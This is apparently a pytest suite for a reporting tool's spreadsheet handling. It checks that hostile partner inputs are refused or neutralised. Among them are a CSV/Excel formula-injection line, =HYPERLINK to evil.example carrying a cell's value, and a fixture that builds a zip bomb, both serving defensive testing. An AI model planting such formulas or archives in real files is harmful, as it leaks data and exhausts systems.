"""Partners' workbooks and the inputs under attack: live formulas, control characters, numbers no count can be,
cells without end, FIFOs and zip bombs, and the small things (Excel's ``sep=`` line, a period twice, a year 9999).

Each attack is made here on a copy of the demo, and each refusal names the file, row and column with exit 2 and
nothing written. Anything that could hang or exhaust memory runs in a child process with a timeout.
"""

from __future__ import annotations

import io
import os
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
import test_returns
from test_returns import DA, FIGURES, Q2, fill, set_cells

from analysis.cli import main
from analysis.core.files import MAX_CELL_CHARS, MAX_UNZIPPED_BYTES, MB

ROOT = Path(__file__).resolve().parents[1]
WHERE = f"{DA}, sheet 'Returns'"
started = test_returns.started  # the demo copy with 2015-16 Q2 started and its returns written


def run(*argv: object) -> int:
    return main([str(a) for a in argv])


def in_child(*argv: object, timeout: float = 90) -> subprocess.CompletedProcess:
    """``csp-report ARGS`` in its own process, killed if it does not finish promptly (a hang fails the test)."""
    return subprocess.run(
        [sys.executable, "-m", "analysis.cli", *map(str, argv)],
        capture_output=True,
        text=True,
        timeout=timeout,
        cwd=ROOT,
    )


def files_of(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in folder.iterdir() if p.is_file()}


def rewrite(path: Path, old: str, new: str) -> None:
    """Rewrite a workbook's XML as a hostile sender could, beyond what Excel (or openpyxl) would write: a number
    cell holding ``1E999``, a text cell of megabytes (openpyxl cuts what it writes at 32,767 characters)."""
    parts = {}
    with zipfile.ZipFile(path) as book:
        for name in book.namelist():
            parts[name] = book.read(name)
    found = [name for name, data in parts.items() if old.encode() in data]
    assert found, f"{old!r} is not in the workbook"
    for name in found:
        parts[name] = parts[name].replace(old.encode(), new.encode())
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as book:
        for name, data in parts.items():
            book.writestr(name, data)


# --- every cell the project writes from user text is a text cell, never a formula


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _hostile_register(data: Path) -> None:
    register = data / "measures.yml"
    text = register.read_text(encoding="utf-8")
    text = text.replace("partnership: Safer Plymouth", "partnership: '=Safer Plymouth'", 1)
    text = text.replace("title: Reduce the rate of anti-social behaviour incidents", f"title: '{FORMULA}'", 1)
    text = re.sub(r"(\n    unit: )([^\n]+)", r"\1'-\2'", text, count=1)
    register.write_text(text, encoding="utf-8")
    family = data / "family_group.csv"
    family.write_text(family.read_text(encoding="utf-8").replace("Safer Plymouth", "=Safer Plymouth"), encoding="utf-8")


def test_text_starting_like_a_formula_is_written_as_text_in_every_workbook(demo_copy, tmp_path, capsys):
    _hostile_register(demo_copy)
    assert run("new-quarter", "--quarter", Q2, "--data", demo_copy) == 0
    assert run("returns", "--quarter", Q2, "--data", demo_copy, "--out", tmp_path / "out") == 0
    folder = tmp_path / "out" / "returns" / Q2
    books = sorted(folder.glob("*.xlsx"))
    assert books
    titles = []
    for path in books:
        book = openpyxl.load_workbook(path)  # as written, not as last calculated
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{path.name} {sheet.title}!{cell.coordinate} is a formula"
                    if isinstance(cell.value, str):
                        assert cell.data_type == "s", f"{path.name} {sheet.title}!{cell.coordinate}"
        titles += [c.value for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
        assert "=Safer Plymouth" in [c.value for row in book["About"].iter_rows() for c in row]
    assert FORMULA in titles, "the title is there, as text"
    with zipfile.ZipFile(folder / "asb-delivery-group.xlsx") as book:
        assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")
    # and such a return reads back: the partnership in its About sheet is the register's, as text
    fill(folder / "asb-delivery-group.xlsx", FIGURES)
    capsys.readouterr()
    assert run("ingest", "returns", folder / "asb-delivery-group.xlsx", "--data", demo_copy) == 0, capsys.readouterr()


def test_a_control_character_in_a_title_is_refused_before_any_workbook_is_written(demo_copy, tmp_path, capsys):
    register = demo_copy / "measures.yml"
    text = register.read_text(encoding="utf-8")
    line = next(i for i, t in enumerate(text.splitlines(), 1) if "title: Reduce the rate of anti-social" in t)
    register.write_text(
        text.replace("title: Reduce the rate of anti-social behaviour incidents", 'title: "ASB\\x07 incidents"', 1),
        encoding="utf-8",
    )
    expected = (
        f"measures.yml, line {line}, measure 'asb-incidents', field 'title': this text has a control character "
        "(BEL, U+0007) at character 4, which a spreadsheet cannot hold: delete it"
    )
    assert run("validate", "--data", demo_copy) == 2
    assert f"  - {expected}\n" in capsys.readouterr().err
    assert run("returns", "--quarter", "2015-16-Q1", "--data", demo_copy, "--out", tmp_path / "out") == 2
    err = capsys.readouterr().err
    assert expected in err and "Traceback" not in err
    assert not (tmp_path / "out").exists(), "no workbook was written"


def test_a_control_character_in_a_table_cell_is_refused_with_its_row_and_column(demo_copy, capsys):
    plan = demo_copy / "action_plan.csv"
    lines = plan.read_text(encoding="utf-8").splitlines()
    lines[1] = lines[1].replace("Run a reporting campaign", "Run a\x1b reporting campaign", 1)
    plan.write_text("\n".join(lines) + "\n", encoding="utf-8")
    assert run("validate", "--data", demo_copy) == 2
    err = capsys.readouterr().err
    assert (
        "  - action_plan.csv, row 2, column 'task': this text has a control character (ESC, U+001B) at character 6"
        in err
    )


# --- numbers no count or rate can be


@pytest.mark.parametrize(
    ("typed", "why"),
    [
        ("1E999", "is beyond what a count or rate can be"),
        ("1e308", "is beyond what a count or rate can be"),
        ("-2e12", "is beyond what a count or rate can be"),
        ("inf", "is not a number that can be reported"),
        ("nan", "is not a number that can be reported"),
    ],
    ids=["1E999", "1e308", "beyond-the-bound", "inf", "nan"],
)
def test_a_number_no_count_can_be_is_refused_in_actuals(demo_copy, capsys, typed, why):
    actuals = demo_copy / "actuals.csv"
    rows = actuals.read_text(encoding="utf-8").splitlines()
    rows.append(f"asb-incidents,2015-07,{typed}")
    actuals.write_text("\n".join(rows) + "\n", encoding="utf-8")
    assert run("validate", "--data", demo_copy) == 2
    err = capsys.readouterr().err
    assert f"  - actuals.csv, row {len(rows)}, column 'value': '{typed}' {why}" in err and "Traceback" not in err


@pytest.mark.parametrize(
    ("typed", "why"),
    [("1E999", "inf is not a number that can be reported"), ("1e308", "1e+308 is beyond what a count or rate can be")],
    ids=["1E999", "1e308"],
)
def test_a_number_no_count_can_be_is_refused_in_a_return(started, capsys, typed, why):
    data, folder = started
    fill(folder / DA, FIGURES)
    set_cells(folder / DA, {("Returns", "G5"): 424242})
    rewrite(folder / DA, "<v>424242</v>", f"<v>{typed}</v>")
    before = files_of(data)
    assert run("ingest", "returns", folder / DA, "--data", data) == 2
    err = capsys.readouterr().err
    assert f"  - {WHERE}, row 5, column 'value': {why}" in err and "Traceback" not in err
    assert files_of(data) == before


# --- bounded reads


def test_a_five_megabyte_partner_note_is_refused(started, capsys):
    data, folder = started
    fill(folder / DA, FIGURES, {("da-referrals", Q2): "NOTE-TO-GROW"})
    rewrite(folder / DA, "NOTE-TO-GROW", "x" * (5 * MB))
    before = files_of(data)
    assert run("ingest", "returns", folder / DA, "--data", data) == 2
    err = capsys.readouterr().err
    assert (
        f"{WHERE}, row 5, column 'note': this text is {5 * MB:,} characters long, more than the "
        f"{MAX_CELL_CHARS:,} a cell may hold" in err
    )
    assert files_of(data) == before


def test_a_partner_notes_table_with_a_cell_beyond_any_bound_is_refused(demo_copy, capsys):
    (demo_copy / "partner_notes.csv").write_text(
        f"quarter,measure_id,period,lead,note\n2015-16-Q1,asb-incidents,2015-04,ASB,{'x' * 200_000}\n"
    )
    assert run("validate", "--data", demo_copy) == 2
    err = capsys.readouterr().err
    assert "partner_notes.csv: a cell is longer than the 32,767 characters a cell may hold" in err
    assert "Traceback" not in err


def test_the_same_period_twice_in_one_workbook_is_refused(started, capsys):
    data, folder = started
    fill(folder / DA, FIGURES)
    book = openpyxl.load_workbook(folder / DA)
    sheet = book["Returns"]
    sheet.insert_rows(6)  # cannot be done in Excel (the sheet is protected), but a file can say anything
    for column in range(1, 9):
        sheet.cell(6, column, sheet.cell(5, column).value)
    book.save(folder / DA)
    before = files_of(data)
    assert run("ingest", "returns", folder / DA, "--data", data) == 2
    message = f"{WHERE}, row 6, column 'period': da-referrals {Q2} is given twice in this workbook (also row 5)"
    assert message in capsys.readouterr().err
    assert files_of(data) == before


def test_the_same_figure_in_two_workbooks_counts_once(started, tmp_path, capsys):
    data, folder = started
    fill(folder / DA, FIGURES)
    twin = tmp_path / "copy-of-da.xlsx"
    twin.write_bytes((folder / DA).read_bytes())
    assert run("ingest", "returns", folder / DA, twin, "--data", data) == 0
    alone = sum(1 for (measure, _) in FIGURES if measure in ("da-reporting", "da-referrals", "dash-training"))
    assert f": {alone} new values," in capsys.readouterr().out


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="named pipes are a POSIX feature")
@pytest.mark.parametrize("kind", ["fifo", "zero-device"])
def test_a_fifo_or_device_named_as_a_returns_workbook_is_refused_at_once(demo_copy, tmp_path, kind):
    path = tmp_path / "return.xlsx"
    if kind == "fifo":
        os.mkfifo(path)
    else:
        path.symlink_to("/dev/zero")
    done = in_child("ingest", "returns", path, "--data", demo_copy, "--quarter", "2015-16-Q1")
    assert done.returncode == 2, done.stderr
    said = "a named pipe (FIFO)" if kind == "fifo" else "a device"
    assert f"return.xlsx: this is {said}, not a file, so it is not read" in done.stderr


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="named pipes are a POSIX feature")
def test_a_fifo_named_as_a_workbook_in_the_data_folder_is_refused_at_once(demo_copy):
    os.mkfifo(demo_copy / "extra.xlsx")
    done = in_child("validate", "--data", demo_copy)
    assert done.returncode == 2 and "extra.xlsx: this is a named pipe (FIFO), not a file" in done.stderr


@pytest.fixture(scope="module")
def zip_bomb(tmp_path_factory) -> bytes:
    """A workbook-shaped zip of under a megabyte that unpacks to more than the cap."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as book:
        book.writestr("[Content_Types].xml", "<Types/>")
        info = zipfile.ZipInfo("xl/sharedStrings.xml")
        info.compress_type = zipfile.ZIP_DEFLATED
        with book.open(info, "w", force_zip64=True) as part:
            block = b"<si><t>x</t></si>" * 60_000
            for _ in range(MAX_UNZIPPED_BYTES // len(block) + 2):
                part.write(block)
    raw = buffer.getvalue()
    assert len(raw) < MB
    return raw


def test_a_zip_bomb_returns_workbook_is_refused_before_it_is_unpacked(demo_copy, tmp_path, zip_bomb):
    path = tmp_path / "return.xlsx"
    path.write_bytes(zip_bomb)
    done = in_child("ingest", "returns", path, "--data", demo_copy, "--quarter", "2015-16-Q1", timeout=30)
    assert done.returncode == 2, done.stderr
    assert "return.xlsx: this workbook unpacks to more than the 100 MB a workbook may hold" in done.stderr


def test_a_zip_bomb_workbook_in_the_data_folder_is_refused_before_it_is_unpacked(demo_copy, zip_bomb):
    (demo_copy / "inputs.xlsx").write_bytes(zip_bomb)
    done = in_child("validate", "--data", demo_copy, timeout=30)
    assert done.returncode == 2 and "inputs.xlsx: this workbook unpacks to more than the 100 MB" in done.stderr


# --- small things


def test_an_excel_sep_line_is_one_problem_naming_line_1(demo_copy, capsys):
    actuals = demo_copy / "actuals.csv"
    actuals.write_bytes(b"sep=,\r\n" + actuals.read_bytes())
    assert run("validate", "--data", demo_copy) == 2
    err = capsys.readouterr().err
    assert err.startswith("1 problem in the input files:\n")
    assert "  - actuals.csv, row 1: the first line 'sep=,' is Excel's note of the separator, not the header row" in err


@pytest.mark.parametrize("argv", [["status", "--quarter", "9999-00-Q1"], ["new-quarter", "--quarter", "9999-00-Q1"]])
def test_a_year_beyond_any_report_is_not_a_financial_year(demo_copy, tmp_path, capsys, argv):
    with pytest.raises(SystemExit) as done:
        run(*argv, "--data", demo_copy, "--out", tmp_path / "out") if argv[0] == "status" else run(
            *argv, "--data", demo_copy
        )
    assert done.value.code == 2
    err = capsys.readouterr().err
    assert "'9999-00-Q1' is not a financial year a report can cover: years run from 1900-01 to 2999-00" in err
    assert "10000" not in err


def test_a_year_beyond_any_report_in_a_table_names_its_row(demo_copy, capsys):
    plan = demo_copy / "action_plan.csv"
    lines = plan.read_text(encoding="utf-8").splitlines()
    lines[1] = re.sub(r"^2015-16-Q1", "9999-00-Q1", lines[1])
    plan.write_text("\n".join(lines) + "\n", encoding="utf-8")
    assert run("validate", "--data", demo_copy) == 2
    err = capsys.readouterr().err
    assert "action_plan.csv, row 2, column 'quarter': '9999-00-Q1' is not a financial year a report can cover" in err
